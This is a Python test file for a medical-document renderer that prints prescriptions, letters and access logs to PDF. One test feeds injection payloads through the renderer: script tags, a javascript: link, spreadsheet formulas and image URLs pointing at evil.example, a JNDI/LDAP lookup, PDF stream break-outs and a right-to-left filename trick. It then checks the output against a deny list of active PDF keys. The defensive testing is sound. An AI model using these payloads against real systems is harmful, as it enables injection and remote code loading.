"""What stands on paper: all of it, inert, the same bytes for the same sheet."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import pypdfium2
import pytest

from serment.errors import TooLargeError
from serment.model import Instant
from serment.paper.access_list import Seen, access_list
from serment.paper.letter import Written, letter
from serment.paper.own_record import Group, own_record
from serment.paper.people import Subject, Writer
from serment.paper.prescription import Line, Prescription, lacking, prescription_sheet
from serment.paper.press import MOST_TEXT, Code, Heading, Picture, Sheet, Text, inert, press
from serment.words import Language

MADE = Instant(1_795_342_800_000)
ON = date(2026, 11, 22)
WRITER = Writer("Dr Claire Martin", "Médecin généraliste", "10001234567", "Cabinet des Lilas")
ADULT = Subject("Jean Durand", "", "1961-04-12", "male")
CHILD = Subject("Léa Bernard", "", "2019-03-01", "female", weight="21 kg")
METFORMIN = Line("Metformine 1 000 mg, comprimé", "1 comprimé matin et soir", "3 mois", 2, long_term=True)
PARACETAMOL = Line("Paracétamol 1 g, comprimé", "1 comprimé si douleur, 3 par jour au plus", "5 jours")
ATTACKS = (
    "<script>alert(1)</script>",
    "<para><img src='http://evil.example/x.png'/></para>",
    "<a href='javascript:alert(1)'>clic</a>",
    '=HYPERLINK("http://evil.example")',
    "{{ 7*7 }} %s ${jndi:ldap://evil}",
    "abc\u202egnp.exe",
    "nul\x00 bell\x07 escape\x1b[2J",
    "&lt;b&gt; &amp; <b",
    ") Tj ET endstream endobj",
)


def text_of(raw: bytes) -> str:
    with pypdfium2.PdfDocument(raw) as document:
        pages = [page.get_textpage().get_text_bounded() for page in document]
    return "\n".join(pages)


def prescribed(*lines: Line, subject: Subject = ADULT, two_parts: bool = False) -> Prescription:
    return Prescription("7KQ2M9XADV3H8TRE", WRITER, subject, lines, ON, two_parts)


def test_equal_sheets_give_equal_bytes() -> None:
    sheet = prescription_sheet(prescribed(PARACETAMOL), MADE, code="ABC")
    assert press(sheet) == press(sheet)


def test_a_sheet_says_when_it_was_made_and_not_when_it_was_drawn() -> None:
    with pypdfium2.PdfDocument(press(Sheet("t", (Text("x"),), MADE))) as document:
        assert document.get_metadata_value("CreationDate") == "D:20261122102000+00'00'"


def test_a_prescription_bears_what_the_rules_ask() -> None:
    said = text_of(press(prescription_sheet(prescribed(METFORMIN, subject=CHILD), MADE)))
    for expected in (
        "Dr Claire Martin",
        "Médecin généraliste",
        "10001234567",
        "22 novembre 2026",
        "Léa Bernard",
        "1er mars 2019 (7 ans)",
        "sexe féminin",
        "21 kg",
        "Metformine 1 000 mg",
        "1 comprimé matin et soir",
        "À renouveler 2 fois",
        "Aucun contrôle automatique des interactions",
    ):
        assert expected in said


def test_a_prescription_in_two_parts_puts_each_line_in_one_part() -> None:
    said = text_of(press(prescription_sheet(prescribed(PARACETAMOL, METFORMIN, two_parts=True), MADE)))
    upper, lower = said.index("affection de longue durée reconnue"), said.index("sans rapport avec")
    assert upper < said.index("Metformine") < lower < said.index("Paracétamol")


def test_an_empty_part_is_struck_out_in_words() -> None:
    said = text_of(press(prescription_sheet(prescribed(METFORMIN, two_parts=True), MADE)))
    assert "aucune prescription dans cette partie" in said


@pytest.mark.parametrize(
    ("one", "sentence"),
    [
        (prescribed(), "paper.lacks-lines"),
        (prescribed(replace(METFORMIN, dose=" ")), "paper.lacks-dose"),
        (replace(prescribed(METFORMIN), writer=replace(WRITER, number="")), "paper.lacks-number"),
        (prescribed(METFORMIN, subject=replace(ADULT, born="")), "paper.lacks-person"),
        (prescribed(METFORMIN, subject=replace(CHILD, weight="")), "paper.lacks-weight"),
    ],
)
def test_a_prescription_that_lacks_something_says_what(one: Prescription, sentence: str) -> None:
    assert sentence in lacking(one)


def test_a_whole_prescription_lacks_nothing() -> None:
    assert lacking(prescribed(METFORMIN, PARACETAMOL)) == []


@pytest.mark.parametrize(
    "other",
    [
        prescribed(replace(METFORMIN, dose="2 comprimés matin et soir")),
        prescribed(METFORMIN, PARACETAMOL),
        prescribed(METFORMIN, subject=replace(ADULT, name="Jeanne Durand")),
        replace(prescribed(METFORMIN), on=date(2026, 11, 23)),
        replace(prescribed(METFORMIN), number="7KQ2M9XADV3H8TRF"),
    ],
)
def test_another_word_on_a_prescription_is_another_digest(other: Prescription) -> None:
    assert other.digest != prescribed(METFORMIN).digest


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_strings_stand_on_paper_as_text_and_do_nothing(attack: str) -> None:
    raw = press(letter(WRITER, replace(ADULT, name=attack), Written(attack, attack, attack), ON, MADE))
    shown = inert(attack).replace(" ", "").replace("\ufffd", "")
    assert shown in text_of(raw).replace(" ", "").replace("\n", "").replace("\r", "").replace(
        "\ufffe", ""
    ).replace("\ufffd", "")
    for active in (
        b"/JavaScript",
        b"/JS",
        b"/URI",
        b"/Launch",
        b"/EmbeddedFile",
        b"/AcroForm",
        b"/SubmitForm",
    ):
        assert active not in raw


def test_what_turns_the_direction_of_reading_is_drawn_as_a_sign_of_its_own() -> None:
    assert inert("abc\u202egnp") == "abc\ufffdgnp"


def test_a_line_of_a_megabyte_is_refused_before_it_is_drawn() -> None:
    with pytest.raises(TooLargeError):
        press(Sheet("t", (Text("x" * 1_000_000),), MADE))


def test_a_long_word_is_broken_and_not_cut() -> None:
    raw = press(Sheet("t", (Text("x" * MOST_TEXT),), MADE))
    assert text_of(raw).count("x") == MOST_TEXT


def test_a_qr_that_no_camera_reads_is_refused() -> None:
    with pytest.raises(TooLargeError):
        press(Sheet("t", (Code("A" * 2_000),), MADE))


def test_own_record_says_none_recorded_that_you_may_see() -> None:
    said = text_of(press(own_record(ADULT, [Group("Allergies", ())], ON, MADE)))
    assert "Rien d'enregistré que vous puissiez voir." in said


def test_own_record_says_how_many_more_there_are() -> None:
    group = Group("Résultats", (("Glycémie", "1,05 g/L", "03/11/2026"),), total=41)
    assert "Et 40 autres" in text_of(press(own_record(ADULT, [group], ON, MADE)))


def test_the_printed_list_puts_emergencies_first_and_carries_its_checkpoint() -> None:
    lines = [Seen("1", "Dr A", "a lu"), Seen("2", "Dr Urgent", "a lu", "urgence vitale", emergency=True)]
    said = text_of(press(access_list(ADULT, lines, ON, MADE, checkpoint="origin\n1\nroot")))
    assert said.index("Dr Urgent") < said.index("Dr A")
    assert "registre des accès" in said


def test_a_picture_fills_a_page_and_keeps_footer_and_watermark() -> None:
    page = Picture(b"\xff" * (400 * 600 * 3), 400, 600)
    raw = press(Sheet("t", (page, page, Text("fin")), MADE, footer="pied", watermark="COPIE"))
    with pypdfium2.PdfDocument(raw) as document:
        pages = [one.get_textpage().get_text_bounded() for one in document]
    assert len(pages) == 3
    assert all("pied" in one and "COPIE" in one for one in pages)


def test_a_sheet_in_english_is_in_english() -> None:
    said = text_of(press(prescription_sheet(prescribed(METFORMIN), MADE, Language.EN)))
    assert "Prescription" in said
    assert "22 November 2026" in said


def test_no_name_stands_in_the_repr_of_a_sheet() -> None:
    assert "Durand" not in repr(letter(WRITER, ADULT, Written("t", "x"), ON, MADE)) + repr(
        prescribed(METFORMIN)
    )
    assert "Lettre" not in repr(Heading("Lettre"))
